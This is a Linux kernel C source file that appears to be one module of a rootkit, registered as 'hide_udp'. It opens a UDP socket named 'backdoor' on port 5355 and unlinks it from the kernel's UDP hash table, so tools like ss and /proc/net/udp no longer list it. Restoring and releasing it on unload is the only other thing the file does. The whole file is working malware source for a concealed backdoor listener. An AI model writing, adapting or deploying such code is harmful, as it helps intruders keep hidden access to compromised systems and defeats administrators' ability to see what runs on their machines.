// SPDX-License-Identifier: GPL-2.0-only
/*
 * Takes a UDP socket out of the table by port, which ss and /proc/net/udp show: it is found by its
 * address, and goes on receiving.
 */
#include <linux/in.h>
#include <linux/net.h>
#include <net/net_namespace.h>
#include <net/sock.h>
#include <net/udp.h>

#include "rk.h"

static struct socket *backdoor;

static struct udp_hslot *slot_of(struct sock *sk)
{
	struct udp_table *table = (void *)rk_lookup("udp_table");

	return table ? udp_hashslot(table, sock_net(sk), udp_sk(sk)->udp_port_hash) : NULL;
}

static int on(void)
{
	struct sockaddr_in any = { .sin_family = AF_INET, .sin_port = htons(5355) };
	int err = sock_create_kern(&init_net, AF_INET, SOCK_DGRAM, IPPROTO_UDP, &backdoor);
	struct udp_hslot *slot;

	if (err)
		return err;
	err = kernel_bind(backdoor, (void *)&any, sizeof(any));
	slot = err ? NULL : slot_of(backdoor->sk);
	if (!slot) {
		sock_release(backdoor);
		return err ? err : -EOPNOTSUPP;
	}
	spin_lock_bh(&slot->lock);
	hlist_del_init_rcu(&backdoor->sk->sk_node);
	spin_unlock_bh(&slot->lock);
	return 0;
}

static void off(void)
{
	struct udp_hslot *slot = slot_of(backdoor->sk);

	spin_lock_bh(&slot->lock);
	hlist_add_head_rcu(&backdoor->sk->sk_node, &slot->head);
	spin_unlock_bh(&slot->lock);
	sock_release(backdoor);
}

RK_MODULE(hide_udp, on, off);
